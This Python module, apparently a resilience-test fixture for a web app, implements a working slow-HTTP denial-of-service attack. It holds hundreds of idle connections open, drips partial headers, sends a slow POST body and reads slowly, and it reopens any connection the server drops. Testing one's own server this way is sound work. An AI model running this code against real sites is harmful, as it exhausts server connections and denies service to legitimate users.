"""Connections that cost their owner nothing: idle ones, and those that send and read very slowly."""

import socket
import threading
from contextlib import suppress
from urllib.parse import urlsplit

IDLE, UNFINISHED, SENDING, READING = 100, 100, 25, 25
"""Connections that send nothing, half a head, a body byte by byte; and those that read no answer."""
HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\n"
UPLOAD = (
    b"POST /decks/new/list/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4000\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nCookie: csrftoken=" + b"a" * 32 + b"\r\n\r\nlist="
)
INTERVAL = 1.0
"""Seconds between two bytes."""


class SocketAttack:
    """Opens connections and keeps each of them as long as the site lets it; a closed one is opened again."""

    def __init__(self, site: str) -> None:
        self.address = urlsplit(site).hostname or "", urlsplit(site).port or 80
        self.kinds = [b""] * IDLE + [HEAD] * UNFINISHED + [UPLOAD] * SENDING + [HEAD + b"\r\n"] * READING
        self.sockets: list[socket.socket] = []
        self.stopping = threading.Event()

    def __enter__(self) -> "SocketAttack":
        self.sockets = [self._open(kind) for kind in self.kinds]
        self.thread = threading.Thread(target=self._drip)
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.stopping.set()
        self.thread.join()
        for connection in self.sockets:
            connection.close()

    def _open(self, sent: bytes) -> socket.socket:
        connection = socket.socket()
        if sent.endswith(b"\r\n\r\n"):
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        connection.settimeout(10)
        connection.connect(self.address)
        connection.sendall(sent)
        connection.setblocking(False)
        return connection

    def _drip(self) -> None:
        """Send a little more on each connection that is not finished."""
        while not self.stopping.wait(INTERVAL):
            for number, kind in enumerate(self.kinds):
                try:
                    if kind in (HEAD, UPLOAD):
                        self.sockets[number].send(b"X-A: b\r\n" if kind == HEAD else b"a")
                except OSError:
                    self.sockets[number].close()
                    with suppress(OSError):
                        self.sockets[number] = self._open(kind)
